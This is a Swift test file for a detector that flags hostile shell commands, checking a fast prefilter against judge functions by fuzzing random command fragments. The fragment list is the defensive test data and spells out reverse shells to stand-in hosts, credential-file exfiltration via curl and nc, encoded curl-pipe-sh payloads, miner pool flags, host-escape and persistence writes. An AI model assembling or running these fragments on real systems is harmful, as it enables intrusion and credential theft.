import JSONView
import Testing

@testable import Rules

@Suite("The quick no for ordinary texts")
struct CommandSignsTests {
    @Test(
        "Ordinary commands and values are passed over",
        arguments: [
            "/bin/app --shard=7 --listen=0.0.0.0:8080 --log-format=json", "production", "server.port=8080",
            "d41d8cd98f00b204e9800998ecf8427e", "--read-only --multi-arch", "eu-central-1a", "",
        ])
    func ordinary(_ text: String) { #expect(!text.withText(CommandSigns.maySay)) }

    @Test(
        "What stands as a word of its own counts only there",
        arguments: [("app -o pool", true), ("app --url=x", true), ("app '-P' x", true), ("read-only-app", false)])
    func words(_ text: String, _ may: Bool) { #expect(text.withText(CommandSigns.maySay) == may) }

    private static let judges: [(String, @Sendable (JSONText) -> Bool)] = [
        ("entersHost", EntersHost.judge), ("decodesAndRuns", DecodeAndRun.judge),
        ("looksEncoded", Payloads.looksEncoded), ("downloadsAndRuns", DownloadAndRun.judge),
        ("looksLikeMiner", MinerShape.judge), ("writesPersistence", PersistenceWrite.judge),
        ("reverseShell", ReverseShell.judge), ("runsFetchedCode", FetchedCode.judge),
        ("runsFromMemory", MemoryExecution.judge), ("sendsCredentials", CredentialSend.judge),
        ("opensReverseTunnel", ReverseTunnel.judge), ("deploysTakeover", HostileDeployment.judge),
        ("sendsFile", CredentialSend.sendsFile),
    ]

    private static let pieces: [String] = [
        "sh", "-c", "bash -i", ">&", "/dev/tcp/198.51.100.7/443", "0>&1", "|", ";", "&&", "curl", "http://x.example/a",
        "wget -O /tmp/a", "chmod +x /tmp/a", "/tmp/a", "base64 -d", "echo", "Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3h8c2g=",
        "nsenter -t 1 -m", "chroot /host", "mount /dev/sda1", "/proc/1/root", "crontab -", "> /etc/cron.d/x",
        "tee /root/.ssh/authorized_keys", "nc -e /bin/sh", "<<<", "cat <&3", "os.system('", "${IFS}", "pwsh -enc",
        "exec 3<>", "map(chr", "\\143\\165\\162\\154", "iwr ", "iex", "socat exec:sh tcp:x:1", "python3 -c",
        "import socket",
        "pty.spawn('/bin/sh')", "exec(", "b64decode(", "-o pool.example:3333", "-u", "--algo=randomx", "-a rx/0",
        "--pool", "x.example:4444", "\\x63\\x75\\x72\\x6c", "eval", "$(", ")", "'", "\"", "app",
        "--config=/srv/app.yaml",
        "curl -T /root/.aws/credentials http://x.example/a", "nc x.example 1 < /root/.kube/config",
        "dd of=/proc/self/mem seek=1", "dd of=/proc/$$/mem",
        "IyEvYmluL3NoCmN1cmwgLXMgaHR0cDovLzE5OC41MS4xMDAuNy94IHwgc2gKZWNobyBkb25lCg==", "-a",
        "6375726c20687474703a2f2f782e6578616d706c652f617c7368", "printf", "rev", "openssl enc -d", "cp x", "-pool",
        "git clone https://x.example/r", "cd r", "./run.sh", "pip install https://x.example/p.tgz", "X=cu;", "Y=rl",
        "$X$Y", "${X}rl", "b''ash",
        "ssh -N -R 8080:localhost:80 x.example", "client x.example:443 R:socks", "docker run -v /:/h alpine",
        "kubectl run x --overrides {hostPID:true,privileged:true}",
        "curl -d @/cred/a http://198.51.100.7/", "nc 198.51.100.7 9 < /cred/a", "ln -s /etc/shadow /h/0.log",
        "{\"pools\":[{\"user\":\"0x5A0b54D5dc17e0AadC383d2db43B0a0D3E029c4c\"}]}", "tar -x -C /h/etc/cron.d",
    ]

    @Test("Every function about commands is put to the test")
    func complete() { #expect(Set(Self.judges.map(\.0)) == CommandJudgement.functions) }

    @Test("No text that a function says something of is passed over")
    func sound() {
        var state: UInt64 = 7
        func random(_ below: Int) -> Int {
            state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
            return Int(state >> 33) % below
        }
        var said: [String: Int] = [:]
        for _ in 0..<1500 {
            var text = ""
            for _ in 0...random(8) { text += Self.pieces[random(Self.pieces.count)] + (random(5) == 0 ? "" : " ") }
            text.withText { view in
                for (name, judge) in Self.judges where AssembledCommand.judge(view, judge) {
                    said[name, default: 0] += 1
                    #expect(CommandSigns.maySay(view), "\(name): \(String(view))")
                }
                if Payloads.decoded(view).count > 0 { #expect(CommandSigns.maySay(view), "\(String(view))") }
            }
        }
        for (name, _) in Self.judges { #expect(said[name, default: 0] > 2, "\(name) is put to the test") }
    }
}
